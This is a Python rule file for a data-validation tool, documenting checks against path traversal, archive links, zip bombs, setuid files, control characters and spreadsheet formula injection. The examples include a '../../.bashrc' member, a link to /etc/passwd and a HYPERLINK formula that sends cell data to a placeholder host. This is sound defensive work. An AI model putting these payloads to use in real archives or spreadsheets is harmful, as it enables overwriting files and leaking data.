"""SAF: what is unsafe to read, to unpack or to print; each function is one rule's page.

SAF1 is found in folders and archives before any content is read, SAF2 in cells.
"""

from __future__ import annotations

from seldio.rules.base import ERROR, WARNING, Rule, reported


@reported("SAF101", ERROR)
def path_traversal() -> None:
    r"""An archive member that would be unpacked outside the folder.

    Its name is absolute (/tmp/x, C:\x), climbs with .., is empty, or hides its end behind a NUL. Careless
    unpacking writes it where the name says: over a start-up file, a key, another data set. seldio
    unpacks nothing, and does not read such a member either.

    Example:
        ../../.bashrc in submission.zip

    Fix:
        Do not unpack the archive. Pack it again from inside its folder, with plain relative names.

    Reference: CWE-22; "zip slip" (Snyk, 2018); PEP 706 for tar in Python.
    """


@reported("SAF102", ERROR)
def archive_link() -> None:
    """A link inside an archive.

    A symbolic link that leads out of the folder, followed by a member beneath it, writes anywhere on
    the disk; a hard link gives access to a file that was never packed. Archives of data need neither.

    Example:
        data -> /etc, then data/passwd, in dataset.tar

    Fix:
        Pack the linked file itself: ``tar --dereference``; zip follows links unless told not to.

    Reference: CWE-59, link following; PEP 706.
    """


@reported("SAF103", ERROR)
def special_file() -> None:
    """A named pipe, socket or device where a file belongs.

    Opening a named pipe blocks until somebody writes into it, reading /dev/zero never ends: a script
    that goes through the folder hangs without a message.

    Example:
        metadata_dev/mix001.csv made by mkfifo

    Fix:
        Remove it. To read from a pipe, name the file ``-``.

    Reference: POSIX, mkfifo; tar files hold such entries as types 3, 4 and 6.
    """


@reported("SAF104", ERROR)
def duplicate_member() -> None:
    """One name twice in an archive.

    zip and tar allow it. Unpacking keeps the last one, readers that look a name up may find the first:
    what was checked is not what is scored. It also happens by honest mistake, when a file is added
    to a tar again.

    Example:
        mix001.csv (15 bytes) and mix001.csv (10 bytes) in one zip

    Fix:
        Pack the archive again, with one file per name.

    Reference: CWE-694, duplicate identifier; tar --append.
    """


@reported("SAF105", ERROR)
def over_limit() -> None:
    """A file or archive over a limit.

    42 kB of zip can unpack to 5.5 GB ("zip bomb"): whoever reads it runs out of memory or disk. Limits
    hold for the size of a file and of a whole archive, for the ratio of unpacked to packed, the number
    of files, and the length of a name.

    Example:
        a.csv in bomb.zip: 100,000,000 bytes from 194,135

    Fix:
        If you trust the file, unpack it yourself and validate the folder.

    Reference: CWE-409, data amplification; David Fifield, "A better zip bomb" (2019).
    """


@reported("SAF106", WARNING)
def setuid_bit() -> None:
    """A file with the setuid or setgid bit.

    Run as a program, it would have the rights of its owner and not of who runs it. No data needs that;
    unpacked by root, it is a way in.

    Example:
        -rwsr-xr-x mix001.csv

    Fix:
        ``chmod ug-s FILE``, and pack again.

    Reference: CWE-732, incorrect permission assignment.
    """


@reported("SAF107", ERROR)
def damaged_archive() -> None:
    """An archive or packed file that cannot be read whole.

    It is cut off, a checksum is wrong, a member is encrypted, or it is packed twice. What came before
    the damage is checked, but nobody can tell what is missing behind it.

    Example:
        submission.zip after an upload that broke off

    Fix:
        Fetch or pack the file again, without a password, and pack it once.

    Reference: ``unzip -t``, ``gzip -t``.
    """


@reported("SAF108", ERROR)
def link_not_followed() -> None:
    """A link that leads nowhere, out of the folder or round in a circle.

    A link to a file on your disk is a link to nothing on that of others. One that leads out of the
    folder makes a check read, and a packer include, what nobody meant to share; one that leads to a
    folder above goes on for ever.

    Example:
        metadata_dev/mix001.csv -> /home/me/old/mix001.csv

    Fix:
        Put the file itself in place of the link, or name the folder that holds both.

    Reference: CWE-59, link following.
    """


@reported("SAF109", WARNING)
def awkward_name() -> None:
    r"""A file name that breaks on other systems.

    Windows forbids < > : | ? * and \, drops dots and spaces at the end, and keeps CON, NUL or COM1
    for devices. macOS and Windows take a.csv and A.csv for the same file, and macOS é in its two
    Unicode forms, so that one of the two is lost. Invisible characters and line breaks make a name
    look like another, and break scripts.

    Example:
        aux.csv; mix:001.csv; Mix001.csv beside mix001.csv

    Fix:
        Rename it: letters, digits, _, - and one dot before the suffix work everywhere.

    Reference: Microsoft, "Naming Files, Paths, and Namespaces"; Unicode Standard Annex 15.
    """


@reported("SAF111", WARNING)
def webdataset_key() -> None:
    """A name in a tar with more than one dot.

    WebDataset takes what stands before the first dot for the key of a sample and the rest for its
    field: mix001.v2.wav is the field "v2.wav" of mix001, beside mix001.csv, and not a sample of its own.

    Example:
        mix001.v2.wav

    Fix:
        Use a single dot: mix001_v2.wav.

    Reference: webdataset, base_plus_ext.
    """


@reported("SAF201", ERROR)
def control_character() -> None:
    """A control or invisible character in a cell.

    Escape sequences clear the screen, rewrite the window's title or paint "PASS" over the output of
    whoever prints the file. Characters that turn the direction of text around make it look like
    other text. Zero-width ones make two equal names unequal. seldio prints all of them escaped.

    Example:
        7,dog<U+202E>,0,-50,30

    Fix:
        Remove it, and find out where it comes from: often text copied from a web page.

    Reference: CWE-150, escape sequences; CVE-2021-42574, "Trojan Source".
    """


@reported("SAF202", ERROR)
def formula_cell() -> None:
    """A cell that a spreadsheet would run.

    A cell that begins with =, @, or with + or - before a letter is a formula to spreadsheets: opened
    there, it can fetch a web address with the contents of other cells in it, or start a program.
    Negative numbers are no formulas, and are not reported.

    Example:
        7,=HYPERLINK("http://example.com/?"&A1),0,-50,30

    Fix:
        Write the number that belongs there.

    Reference: CWE-1236; OWASP, CSV injection.
    """


RULES: tuple[Rule, ...] = (
    path_traversal, archive_link, special_file, duplicate_member, over_limit, setuid_bit, damaged_archive,
    link_not_followed, awkward_name, webdataset_key, control_character, formula_cell,
)  # fmt: skip
